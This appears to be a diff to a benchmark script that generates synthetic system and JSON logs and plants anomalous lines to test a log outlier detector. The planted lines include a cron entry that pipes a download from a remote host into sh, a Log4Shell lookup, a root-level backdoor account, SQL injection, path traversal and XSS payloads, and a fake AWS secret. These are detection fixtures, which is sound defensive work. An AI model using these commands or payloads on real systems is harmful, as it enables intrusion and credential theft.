@@ -94,6 +94,41 @@ BEGIN {
         n++
     }
 }' >"$dir/package.log"
+# Two logs that nothing was chosen on but how lines are ranked.
+awk "$rnd"'
+function say(s) { printf "Mar %2d %02d:%02d:%02d web%d %s\n", 3 + t / 86400, t / 3600 % 24, t / 60 % 60, t % 60, 1 + rnd(2), s }
+BEGIN {
+    seed = 23
+    split("root deploy backup anna jenkins", user, " ")
+    split("nginx.service php-fpm.service logrotate.service apt-daily.service man-db.service", unit, " ")
+    for (i = 1; i <= 12; i++) address[i] = "10." rnd(4) "." rnd(256) "." rnd(256)
+    t = 21600
+    while (n < 900) {
+        t += rnd(40); k = rnd(10)
+        if (k < 3) {
+            u = user[1 + rnd(5)]; p = 1000 + rnd(30000)
+            say("sshd[" p "]: Accepted publickey for " u " from " address[1 + rnd(12)] " port " 30000 + rnd(30000) " ssh2")
+            say("sshd[" p "]: pam_unix(sshd:session): session opened for user " u "(uid=" 1000 + rnd(5) ") by (uid=0)"); n++
+        } else if (k < 5) say("CRON[" 1000 + rnd(30000) "]: (root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.hourly ))")
+        else if (k < 7) { u = unit[1 + rnd(5)]; say("systemd[1]: Starting " u "..."); say("systemd[1]: " u ": Deactivated successfully."); n++ }
+        else if (k < 9) say("kernel: [" t "." 100000 + rnd(900000) "] eth0: link up, " (rnd(2) ? 1000 : 100) " Mbps, full duplex, flow control rx/tx")
+        else say("dhclient[" 700 + rnd(9) "]: bound to " address[1 + rnd(12)] " -- renewal in " 1000 + rnd(900) " seconds.")
+        n++
+    }
+}' >"$dir/system.log"
+awk "$rnd"'
+BEGIN {
+    seed = 31
+    split("cart login search checkout profile", op, " ")
+    split("GET POST PUT", m, " ")
+    t = 1772400000
+    while (n++ < 700) {
+        t += rnd(9); o = op[1 + rnd(5)]; r = rnd(50)
+        printf "{\"ts\":%d.%03d,\"level\":\"%s\",\"service\":\"%s\",\"method\":\"%s\",\"path\":\"/api/v1/%s/%d\",\"status\":%d,\"ms\":%d,\"request_id\":\"%08x%04x\"}\n", \
+            t, rnd(1000), (r ? "info" : "warn"), o, m[1 + rnd(3)], o, \
+            1 + rnd(400), (r ? 200 : 429), 3 + rnd(90), rnd(2147483647), rnd(65536)
+    }
+}' >"$dir/json.log"
 # odd lines, one after each 1/21 of a log
 plant() {
     awk -v lines="$(wc -l <"$1")" -v odd="$2" '
@@ -135,8 +170,45 @@ nginx: worker process 31337 exited on signal 11
 198.51.100.77 - - [12/Mar/2026:08:04:21 +0000] "GET /?x=${jndi:ldap://198.51.100.77/a} HTTP/1.1" 200 612 "-" "-"
 192.0.2.45 - - [12/Mar/2026:08:05:09 +0000] "GET /backup.tar.gz HTTP/1.1" 200 734003200 "-" "Wget/1.21.3"
 EOF
-plant "$dir/package.log" "$dir/odd.package" >"$dir/package.odd"
-plant "$dir/access.log" "$dir/odd.access" >"$dir/access.odd"
+cat >"$dir/odd.system" <<'EOF'
+Mar  3 06:41:12 web1 sshd[4821]: Failed password for invalid user oracle from 203.0.113.66 port 40122 ssh2
+Mar  3 06:59:47 web2 kernel: [25187.441200] EXT4-fs error (device sda1): ext4_find_entry:1455: inode #131: comm find: reading directory lblock 0
+Mar  3 07:13:03 web1 sudo: anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/bin/bash
+Mar  3 07:30:30 web1 sshd[9911]: error: maximum authentication attempts exceeded for root from 198.51.100.9 port 4242 ssh2 [preauth]
+Mar  3 08:02:19 web2 CRON[2211]: (www-data) CMD (curl -s http://198.51.100.3/x | sh)
+Mar  3 08:15:55 web1 systemd[1]: nginx.service: Main process exited, code=killed, status=11/SEGV
+Mar  3 08:33:21 web2 kernel: [30801.771234] Out of memory: Killed process 7712 (mysqld) total-vm:8123456kB
+Mar  3 08:49:58 web1 useradd[6512]: new user: name=support, UID=0, GID=0, home=/root, shell=/bin/sh
+Mar  3 09:05:14 web2 sshd[3030]: Accepted password for root from 203.0.113.200 port 51111 ssh2
+java.lang.NullPointerException: Cannot invoke "String.length()" because "s" is null
+Mar  3 09:42:37 web1 named[522]: client @0x7f2c 10.1.2.3#53124 (version.bind): query 'version.bind/TXT/CH' denied
+Mar  3 09:58:01 web2 kernel: [35881.100201] usb 1-1: new high-speed USB device number 7 using xhci_hcd
+\x00\x00\x00\x00\x7fELF\x02\x01\x01
+Mar  3 10:20:44 web1 postfix/smtpd[8123]: warning: unknown[198.51.100.77]: SASL LOGIN authentication failed: UGFzc3dvcmQ6
+Mar  3 10:31:31 web1 auditd[401]: Audit daemon has no space left on logging partition
+Mar 33 25:61:00 web9 systemd[1]: Starting nginx.service...
+Mar  3 10:52:26 web2 sshd[7373]: Did not receive identification string from 192.0.2.7 port 60606
+Mar  3 11:04:09 web1 smartd[611]: Device: /dev/sda [SAT], 8 Currently unreadable (pending) sectors
+AWS_SECRET_ACCESS_KEY=hT9xk2LmQ8vR4wZp6sN1cB7dF3gJ5yUe0aXoKiVq
+Mar  3 11:40:00 web2 shutdown[9001]: shutting down for system reboot
+EOF
+cat >"$dir/odd.json" <<'EOF'
+{"ts":1772400310.101,"level":"error","service":"checkout","error":"payment gateway timeout after 30000 ms","card":"4111111111111111"}
+{"ts":1772400450.202,"level":"info","service":"login","method":"POST","path":"/api/v1/login/1' OR 'a'='a","status":200,"ms":12,"request_id":"00c0ffee0001"}
+panic: runtime error: index out of range [5] with length 3
+{"ts":1772400611.303,"level":"info","service":"search","method":"GET","path":"/api/v1/../../etc/passwd","status":200,"ms":7,"request_id":"7a5b1c2d3e4f"}
+{"ts":1772400720.404,"level":"fatal","service":"cart","msg":"out of memory"}
+{"ts":1772400833.505,"level":"info","service":"profile","method":"DELETE","path":"/api/v1/profile/7","status":204,"ms":5,"request_id":"5b8d3a1c9e2f"}
+	at com.example.cart.CartService.add(CartService.java:88)
+{"ts":1772400911.606,"level":"info","service":"cart","method":"GET","path":"/api/v1/cart/12","status":200,"ms":98311,"request_id":"1f2e3d4c5b6a"}
+{"ts":1772401044.707,"level":"warn","service":"login","msg":"password=hunter2 for user admin"}
+<html><head><title>502 Bad Gateway</title></head>
+{"ts":1772401188.808,"level":"info","service":"search","method":"GET","path":"/api/v1/search/<script>alert(1)</script>","status":200,"ms":20,"request_id":"abcdefabcdef"}
+{"ts":0.000,"level":"info","service":"cart","method":"GET","path":"/api/v1/cart/55","status":200,"ms":40,"request_id":"000000000000"}
+EOF
+for l in package access system json; do
+    plant "$dir/$l.log" "$dir/odd.$l" >"$dir/$l.odd"
+done
 head -c 20000 /usr/share/common-licenses/GPL-3 >"$dir/licence"
 awk '{ printf "%s\r\n", $0 }' "$dir/licence" >"$dir/licence.crlf"
 awk "$rnd"' BEGIN { seed = 3; while (n++ < 20000) printf "%02x", rnd(256) }' |
@@ -197,7 +269,7 @@ odd() { # NAME LOG ODD OPTION...: planted lines among as many first rows
 echo
 echo '| odd lines | found |'
 echo '|---|---|'
-for l in package access; do
+for l in package access system json; do
     odd "$l log, model" "$dir/$l.odd" "$dir/odd.$l" --no-adapt
     odd "$l log, adapted" "$dir/$l.odd" "$dir/odd.$l"
     odd "$l log, no model" "$dir/$l.odd" "$dir/odd.$l" --model=none
